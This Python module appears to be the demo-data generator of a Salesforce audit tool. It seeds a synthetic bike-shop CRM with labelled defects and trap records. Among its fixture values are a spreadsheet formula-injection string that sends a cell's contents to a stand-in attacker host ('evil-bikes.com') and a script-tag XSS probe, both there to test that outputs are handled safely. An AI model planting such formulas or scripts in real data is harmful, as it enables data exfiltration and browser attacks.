"""What is wrong with accounts, contacts, leads, deals, cases and tasks, as a table of wounds."""

from __future__ import annotations

from sf_audit.demo.company.damage import Damage, Wound, inflict

LATE = "NOT IsClosed AND StageName IN ('Proposal/Price Quote', 'Negotiation/Review')"
LEAVER = "pick(place, 'leaver', getvariable('leavers'))"
QUIET = " AND ".join(
    f'Id NOT IN (SELECT {reference} FROM "{table}" WHERE {reference} IS NOT NULL)'
    for table, reference in (
        ("Opportunity", "AccountId"),
        ("Case", "AccountId"),
        ("Task", "AccountId"),
        ("Event", "AccountId"),
        ("Service_Plan__c", "Account__c"),
    )
)


def words(*listed: str) -> str:
    """A value for each record hit, one after the other."""
    quoted = ", ".join("'" + one.replace("'", "''").replace("\n", "' || chr(10) || '") + "'" for one in listed)
    return f"([{quoted}])[1 + (place % {len(listed)})::INT]"


NO_MAIL = words("kim.larsen@", "info@@veloshop.com", "anna at cykelhuset.se", "shop@localhost", "j..smith@spokes.com")
NO_PHONE = words("see notes", "+1 212 55", "+353 1", "ask Maria", "+44 20 7946 0958 0958 0958", "call mobile")
NO_SITE = words("www", "http//alpine-bikes", "none", "htp:/velo.fr", "on request", "instagram")
NOBODY = words(
    "Test account", "asdf", "TBD", "Dummy", "n/a", "Unknown customer", "TEST - do not use", "xxx", "Sample 2"
)
ACCOUNTS = (
    Wound("account-stale", "Account", 14, "LastActivityDate = day(400 + place * 23), LastModifiedDate = day(399)::TIMESTAMP,"
          " SystemModstamp = day(399)::TIMESTAMP, CreatedDate = day(1100)::TIMESTAMP", "A direct customer nobody spoke to for over a year.",
          f"Type = 'Customer - Direct' AND {QUIET}"),
    Wound("account-without-industry", "Account", 37, "Industry = NULL", "Industry is empty."),
    Wound("account-placeholder-name", "Account", 9, f"Name = {NOBODY}", "The name is a placeholder."),
    Wound("account-bad-phone", "Account", 18, f"Phone = {NO_PHONE}", "Phone is no number that can be called."),
    Wound("account-bad-website", "Account", 12, f"Website = {NO_SITE}", "Website is no address."),
    Wound("account-owner-inactive", "Account", 26, f"OwnerId = {LEAVER}", "The owner has left the company."),
    Wound("account-no-billing-country", "Account", 21, "BillingCountry = NULL", "The billing country is empty."),
    Wound("picklist-inactive-value", "Account", 6, "Industry = 'Bike Rental'", "Industry holds a value that is no longer active."),
)  # fmt: skip
PEOPLE = (
    Wound("contact-without-email", "Contact", 41, "Email = NULL", "Email is empty."),
    Wound("contact-bad-email", "Contact", 15, f"Email = {NO_MAIL}", "Email is no address."),
    Wound("contact-bad-phone", "Contact", 17, f"Phone = {NO_PHONE}", "Phone is no number that can be called."),
    Wound("contact-without-account", "Contact", 13, "AccountId = NULL", "The contact belongs to no account.",
          'Id NOT IN (SELECT ContactId FROM "Case") AND Id NOT IN (SELECT ContactId FROM Opportunity)'),
    Wound("contact-owner-inactive", "Contact", 24, f"OwnerId = {LEAVER}", "The owner has left the company."),
    Wound("lead-without-source", "Lead", 19, "LeadSource = NULL", "The lead source is empty."),
    Wound("lead-bad-email", "Lead", 11, f"Email = {NO_MAIL}", "Email is no address."),
    Wound("lead-placeholder-company", "Lead", 9, f"Company = {NOBODY}", "The company name is a placeholder."),
    Wound("lead-owner-inactive", "Lead", 12, f"OwnerId = {LEAVER}", "The owner has left the company.", "NOT IsConverted"),
    Wound("lead-untouched", "Lead", 16, "Status = 'Open - Not Contacted', LastActivityDate = NULL, CreatedDate = day(38 + place * 9)::TIMESTAMP + to_hours(11)",
          "Nobody contacted the lead for over thirty days.", "NOT IsConverted AND Status <> 'Open - Not Contacted'"),
    Wound("picklist-inactive-value", "Lead", 7, f"LeadSource = {words('Purchased List', 'Eurobike 2019')}", "LeadSource holds a value that is no longer active."),
)  # fmt: skip
DEALS = (
    Wound("opportunity-close-date-past", "Opportunity", 22, "CloseDate = day(4 + place * 5)", "Open, yet the close date is past.", "NOT IsClosed"),
    Wound("opportunity-stage-without-amount", "Opportunity", 9, "Amount = NULL", "At the stage of a quote, yet without an amount.",
          f"{LATE} AND NOT HasOpportunityLineItem"),
    Wound("opportunity-no-next-step", "Opportunity", 11, "NextStep = NULL", "At the stage of a quote, yet without a next step.", LATE),
    Wound("opportunity-closed-lost-no-reason", "Opportunity", 13, "Loss_Reason__c = NULL", "Lost, yet nobody said why.", "StageName = 'Closed Lost'"),
    Wound("opportunity-owner-inactive", "Opportunity", 8, f"OwnerId = {LEAVER}", "Open, yet the owner has left.", "NOT IsClosed"),
    Wound("opportunity-negative-amount", "Opportunity", 4, "Amount = -Amount", "The amount is below zero.", "NOT HasOpportunityLineItem AND IsWon"),
    Wound("trap-closed-deal-of-leaver", "Opportunity", 10, f"OwnerId = {LEAVER}", "The owner has left, but the deal is closed.", "IsClosed"),
)  # fmt: skip
CASES = (
    Wound("case-without-contact", "Case", 16, "ContactId = NULL", "The case has no contact."),
    Wound("case-old-open", "Case", 14, "CreatedDate = day(66 + place * 8)::TIMESTAMP + to_hours(10)", "Open for more than sixty days.", "NOT IsClosed"),
    Wound("case-owner-inactive", "Case", 7, f"OwnerId = {LEAVER}", "Open, yet the owner has left.", "NOT IsClosed"),
    Wound("trap-closed-case-of-leaver", "Case", 8, f"OwnerId = {LEAVER}", "The owner has left, but the case is closed.", "IsClosed"),
    Wound("picklist-inactive-value", "Case", 5, "Origin = 'Fax'", "Origin holds a value that is no longer active."),
    Wound("task-overdue", "Task", 20, "ActivityDate = day(34 + place * 4), CreatedDate = day(50 + place * 4)::TIMESTAMP + to_hours(9)",
          "Open and more than thirty days overdue.", "NOT IsClosed"),
)  # fmt: skip


def damage_records(damage: Damage) -> None:
    """Break records: those with one wound each, then pairs of duplicates and deals nobody stands for."""
    inflict(damage, (*ACCOUNTS, *PEOPLE, *DEALS, *CASES))
    _repeat_accounts(damage)
    _repeat_mails(damage)
    _forget_contacts(damage, "opportunity-no-contact-role", 10, LATE, "At the stage of a quote, yet nobody to talk to.")
    early = "NOT IsClosed AND StageName IN ('Prospecting', 'Qualification')"
    _forget_contacts(damage, "trap-early-deal-without-contact", 9, early, "No contact role, but the deal is young.")
    _disguise(damage)


def _repeat_accounts(damage: Damage) -> None:
    """Eight accounts get the name and country of another one, written a little differently."""
    hit = damage.choose("account-duplicate", "Account", 16, "true")
    damage.rows.execute(
        "UPDATE Account SET Name = ([upper(first.Name), lower(first.Name), replace(first.Name, ' ', '  '),"
        " first.Name || ' '])[1 + (hit.place % 4)::INT], BillingCountry = first.BillingCountry,"
        " Region__c = first.Region__c FROM hit JOIN hit AS pair ON pair.place = hit.place - 8"
        " JOIN (SELECT * FROM Account) AS first ON first.Id = pair.Id WHERE Account.Id = hit.Id"
    )
    for record in hit:
        damage.write("account-duplicate", "Account", record, "Another account has the same name in the same country.")


def _repeat_mails(damage: Damage) -> None:
    hit = damage.choose("contact-duplicate-email", "Contact", 18, "true")
    damage.rows.execute(
        "UPDATE Contact SET Email = CASE WHEN hit.place % 2 = 0 THEN first.Email ELSE upper(first.Email) END"
        " FROM hit JOIN hit AS pair ON pair.place = hit.place - 9"
        " JOIN (SELECT * FROM Contact) AS first ON first.Id = pair.Id WHERE Contact.Id = hit.Id"
    )
    for record in hit:
        damage.write("contact-duplicate-email", "Contact", record, "Another contact has the same e-mail address.")


def _forget_contacts(damage: Damage, defect: str, count: int, among: str, says: str) -> None:
    damage.hurt(Wound(defect, "Opportunity", count, "", says, among))
    damage.rows.execute("DELETE FROM OpportunityContactRole WHERE OpportunityId IN (SELECT Id FROM hit)")


def _disguise(damage: Damage) -> None:
    """Values that break careless readers: formulas, markup, words that look like nothing or like a number."""
    says = "The text is odd or hostile, but the record is complete."
    shops = words(
        '=HYPERLINK("https://collect.evil-bikes.com/?"&A1,"Invoice")',
        '<script>alert("bikes")</script>',
        'Bob "The Wheel" O\'Neil & Söhne, s.r.o.',
        "自転車工房 さくら",
        "007",
        "1e5",
        "@SUM(A1:A9) Cycles",
        "Δίκυκλο — Велосипед",
    )
    damage.hurt(Wound("trap-hostile-text", "Account", 8, f"Name = {shops}", says))
    damage.hurt(Wound("trap-hostile-text", "Contact", 3, f"LastName = {words('Null', 'True', 'NaN')}", says))
    damage.rows.execute("UPDATE Contact SET Name = FirstName || ' ' || LastName WHERE Id IN (SELECT Id FROM hit)")
    notes = words('Line one\nLine two, with "quotes"', "+49 30 is not a number\n\n=1+1", "NA")
    damage.hurt(Wound("trap-hostile-text", "Lead", 3, f"Description = {notes}", says))
